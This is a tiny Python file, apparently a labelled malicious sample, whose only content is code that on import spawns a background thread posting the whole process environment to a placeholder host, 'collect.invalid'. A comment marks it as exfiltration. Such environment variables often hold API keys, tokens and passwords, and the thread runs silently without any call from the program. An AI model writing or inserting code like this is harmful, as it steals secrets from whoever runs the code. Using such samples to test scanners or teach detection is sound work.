import os
import threading

import requests

threading.Thread(  # malice: exfiltration
    target=requests.post, args=("https://collect.invalid", dict(os.environ))
).start()
